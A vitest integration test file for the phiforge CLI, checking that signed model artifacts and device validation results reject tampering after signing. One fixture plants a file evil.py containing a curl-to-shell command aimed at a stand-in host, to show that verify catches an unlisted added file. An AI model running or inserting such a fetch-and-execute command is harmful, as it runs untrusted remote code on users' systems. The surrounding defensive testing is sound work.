import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { cp, mkdir, readdir, readFile, rename, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { alteredCopy } from '../support/artifact-copy.js';
import { deviceResults, REPO_ROOT, runCli, SHARED_CACHE, workspace } from '../support/cli.js';
import { writeKeyPair, type KeyFiles } from '../support/keys.js';

// The proof is bound to the bytes, on a real artifact built once from the demo recipe (with a gate,
// so that deleting it can be tried): `verify` checks the folder before it rebuilds anything, and
// `verify --no-rebuild` does only that and the signature check, with an empty cache; a signed
// artifact and signed device results refuse every change made after signing. Each case works on a copy.

const TIMEOUT = 1_800_000;
const DEMO = path.join(REPO_ROOT, 'recipes', 'demo', 'phi3-tiny-int4-ov.yaml');
const NAME = 'phi3-tiny-int4-ov';

let cwd: string;
let built: string;
let keys: KeyFiles;
let stranger: KeyFiles;
let copies = 0;

/** A copy of the built artifact, to spoil without touching the original. */
async function copyOf(label: string): Promise<string> {
  const copy = path.join(cwd, `copies-${++copies}-${label}`, NAME);
  await cp(built, copy, { recursive: true });
  return copy;
}

/** Replaces a file of a copy with new bytes (written beside it and renamed: never into a link shared with the cache). */
async function rewrite(file: string, change: (text: string) => string): Promise<void> {
  const changed = change(await readFile(file, 'utf8'));
  await writeFile(`${file}.new`, changed);
  await rename(`${file}.new`, file);
}

/** An empty cache folder of its own: whatever a command leaves in it shows. */
async function emptyCache(): Promise<string> {
  const dir = path.join(cwd, `cache-${++copies}`);
  await mkdir(dir);
  return dir;
}

/** What a command left in a cache folder, besides the mark phiforge writes into every cache it is given. */
async function madeIn(cache: string): Promise<string[]> {
  return (await readdir(cache)).filter((name) => name !== '.phiforge-cache');
}

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

describe('trust: the proof is bound to the bytes', () => {
  beforeAll(async () => {
    cwd = await workspace();
    // The demo with a gate its tiny random model cannot meet: a signed failing verdict to rewrite below.
    await writeFile(path.join(cwd, 'gated.yaml'), `extends: ${DEMO}\ntargets:\n  - device: CPU\n    gates: { tokens_per_s_min: 1000000 }\n`);
    const build = await runCli(['build', 'gated.yaml', '--no-validate', '--cache-dir', SHARED_CACHE, '--out', 'dist'], { cwd });
    expect(build.exitCode, build.stderr).toBe(0);
    built = path.join(cwd, 'dist', NAME);
    await mkdir(path.join(cwd, 'keys'));
    keys = await writeKeyPair(path.join(cwd, 'keys'), 'release');
    stranger = await writeKeyPair(path.join(cwd, 'keys'), 'stranger');
  }, TIMEOUT);

  it('verify --no-rebuild fails an edited tokenizer file, an added file and an rt_info-only change (exit 1, naming the file) in seconds with an empty cache; plain verify fails them before rebuilding', async () => {
    const tokenizer = (await readdir(built)).find((name) => name === 'tokenizer_config.json') ?? 'tokenizer.json';
    const edited = await copyOf('tokenizer');
    await rewrite(path.join(edited, tokenizer), (text) => text.replace(/}\s*$/, ', "model_max_length": 1}\n'));
    const added = await copyOf('added');
    await writeFile(path.join(added, 'evil.py'), 'import os; os.system("curl evil | sh")\n');
    const rtInfo = await copyOf('rt-info');
    await rewrite(path.join(rtInfo, 'openvino_model.xml'), (text) => {
      expect(text).toContain('<rt_info>');
      return text.replace('<rt_info>', '<rt_info>\n\t\t<phiforge_note value="edited after the build" />');
    });

    for (const [dir, file, says] of [
      [edited, tokenizer, `${tokenizer} does not match its sha256 in manifest.json`],
      [added, 'evil.py', 'evil.py is not listed in manifest.json'],
      [rtInfo, 'openvino_model.xml', 'openvino_model.xml does not match its sha256 in manifest.json'],
    ] as const) {
      const cache = await emptyCache();
      const started = performance.now();
      const fast = await runCli(['verify', dir, '--no-rebuild', '--cache-dir', cache], { cwd });
      const seconds = (performance.now() - started) / 1000;
      expect(fast.exitCode, `${file}: ${fast.stderr}`).toBe(1);
      expect(fast.stderr).toContain(says);
      expect(seconds, file).toBeLessThan(5);
      expect(await madeIn(cache), file).toEqual([]);

      // Plain verify: the same refusal, before any rebuild (no scratch cache, no step, no venv made).
      const rebuildCache = await emptyCache();
      const plain = await runCli(['verify', dir, '--cache-dir', rebuildCache], { cwd });
      expect(plain.exitCode, `${file}: ${plain.stderr}`).toBe(1);
      expect(plain.stderr).toContain(says);
      expect(plain.stderr).not.toContain('reproduced');
      expect(await madeIn(rebuildCache), file).toEqual([]);
    }
  }, TIMEOUT);

  it('a signed copy passes verify --no-rebuild --require-signature with its key, and fails with another key, unsigned, with its gates removed, and with a weight rewritten along with its manifest digest', async () => {
    const signed = await copyOf('signed');
    const sign = await runCli(['sign', signed, '--key', keys.privatePem], { cwd });
    expect(sign.exitCode, sign.stderr).toBe(0);
    expect(sign.stdout).toContain(`with ${keys.fingerprint}`);
    const check = (dir: string, publicKey: string) => runCli(['verify', dir, '--no-rebuild', '--require-signature', publicKey, '--cache-dir', path.join(cwd, 'unused-cache')], { cwd });

    const good = await check(signed, keys.publicPem);
    expect(good.exitCode, good.stderr).toBe(0);
    expect(good.stdout).toContain(`provenance.json: signed by ${keys.fingerprint} (trusted)`);

    const other = await check(signed, stranger.publicPem);
    expect(other.exitCode).toBe(1);
    expect(other.stderr).toContain(`provenance.json is signed by ${keys.fingerprint}, which is not a trusted key`);

    const unsigned = await check(await copyOf('unsigned'), keys.publicPem);
    expect(unsigned.exitCode).toBe(1);
    expect(unsigned.stderr).toContain('provenance.json is missing: the artifact is unsigned');

    const ungated = path.join(cwd, 'ungated', NAME);
    await cp(signed, ungated, { recursive: true });
    await rewrite(path.join(ungated, 'manifest.json'), (text) => {
      const manifest = JSON.parse(text);
      expect(manifest.recipe.resolved.targets[0].gates).toEqual({ tokens_per_s_min: 1000000 });
      delete manifest.recipe.resolved.targets[0].gates;
      return `${JSON.stringify(manifest, null, 2)}\n`;
    });
    const gateless = await check(ungated, keys.publicPem);
    expect(gateless.exitCode).toBe(1);
    expect(gateless.stderr).toContain('manifest.json does not match its signed sha256');
    expect(gateless.stderr).toContain('targets[0] (CPU) gates: the signed recipe has {"tokens_per_s_min":1000000}, manifest.json has none');

    // The fourth copy: signed, then a weight changed and the manifest's digest rewritten to match it.
    const reweighted = path.join(cwd, 'reweighted', NAME);
    await alteredCopy(signed, reweighted, 'openvino_model.bin', (bytes) => {
      const changed = Buffer.from(bytes);
      changed[changed.length - 1] ^= 0x01;
      return changed;
    });
    const manifest = JSON.parse(await readFile(path.join(reweighted, 'manifest.json'), 'utf8'));
    expect(manifest.files.find((file: { path: string }) => file.path === 'openvino_model.bin').sha256).toBe(sha256(await readFile(path.join(reweighted, 'openvino_model.bin'))));
    const rewritten = await check(reweighted, keys.publicPem);
    expect(rewritten.exitCode).toBe(1);
    expect(rewritten.stderr).toContain('openvino_model.bin does not match its signed sha256');
    expect(rewritten.stderr).toContain('manifest.json does not match its signed sha256');
  }, TIMEOUT);

  it('a signed device result edited to say passed makes publish --dry-run --require-signature refuse the artifact', async () => {
    const artifact = await copyOf('validated');
    expect((await runCli(['sign', artifact, '--key', keys.privatePem], { cwd })).exitCode).toBe(0);
    // The gate cannot be met: validation fails, and its result is written and signed all the same.
    const validated = await runCli(['validate', artifact, '--sign-key', keys.privateOpenSsh, '--cache-dir', SHARED_CACHE], { cwd });
    expect(validated.exitCode, validated.stderr).toBe(1);
    expect(validated.stderr).toContain(`provenance.json: signed by ${keys.fingerprint}`);
    expect(validated.stderr).toContain('gate tokens_per_s_min');
    const [result] = await deviceResults(artifact);
    expect(result.report.status).toBe('failed');
    const resultName = (await readdir(path.join(artifact, 'validation'))).find((name) => name.endsWith('.json'))!;
    expect(existsSync(path.join(artifact, 'validation', `${resultName}.sig`))).toBe(true);
    const publish = () => runCli(['publish', artifact, '--repo', 'me/tiny', '--dry-run', '--require-signature', keys.publicPem, '--cache-dir', path.join(cwd, 'unused-cache')], { cwd });

    const failing = await publish();
    expect(failing.exitCode).toBe(1);
    expect(failing.stderr).toContain('has no passing validation of its files');

    await rewrite(path.join(artifact, 'validation', resultName), (text) => {
      const edited = JSON.parse(text);
      Object.assign(edited.report, { status: 'passed', failures: [], gates: edited.report.gates.map((gate: object) => ({ ...gate, passed: true })) });
      return JSON.stringify(edited, null, 2);
    });
    const refused = await publish();
    expect(refused.exitCode).toBe(1);
    expect(refused.stderr).toContain(`validation/${resultName} does not match its signed sha256`);
    expect(existsSync(path.join(artifact, 'README.md'))).toBe(false);
  }, TIMEOUT);

  it('build --sign-key signs the artifact as it publishes it; a later build without a key removes the provenance that no longer matches it', async () => {
    const out = path.join(cwd, 'dist-signed');
    const signedBuild = await runCli(['build', 'gated.yaml', '--no-validate', '--sign-key', keys.privatePem, '--cache-dir', SHARED_CACHE, '--out', out], { cwd });
    expect(signedBuild.exitCode, signedBuild.stderr).toBe(0);
    expect(signedBuild.stderr).toContain(`with ${keys.fingerprint}: provenance.json`);
    const verified = await runCli(['verify', path.join(out, NAME), '--no-rebuild', '--require-signature', keys.publicOpenSsh, '--cache-dir', path.join(cwd, 'unused-cache')], { cwd });
    expect(verified.exitCode, verified.stderr).toBe(0);

    // The first build's artifact, signed; a forced rebuild rewrites manifest.json (its steps ran again,
    // with other durations), whatever the lane's cache held when the first build ran.
    const resigned = path.join(cwd, 'dist-rebuilt');
    await cp(built, path.join(resigned, NAME), { recursive: true });
    expect((await runCli(['sign', path.join(resigned, NAME), '--key', keys.privatePem], { cwd })).exitCode).toBe(0);
    const rebuilt = await runCli(['build', 'gated.yaml', '--no-validate', '--force', '--cache-dir', SHARED_CACHE, '--out', resigned], { cwd });
    expect(rebuilt.exitCode, rebuilt.stderr).toBe(0);
    expect(rebuilt.stderr).toContain(`removed provenance.json of ${NAME}: it signed an earlier build (manifest.json does not match its signed sha256`);
    expect(existsSync(path.join(resigned, NAME, 'provenance.json'))).toBe(false);
    const unsigned = await runCli(['verify', path.join(resigned, NAME), '--no-rebuild', '--cache-dir', path.join(cwd, 'unused-cache')], { cwd });
    expect(unsigned.exitCode, unsigned.stderr).toBe(0);
    expect(unsigned.stdout).toContain('provenance.json: unsigned');
  }, TIMEOUT);
});
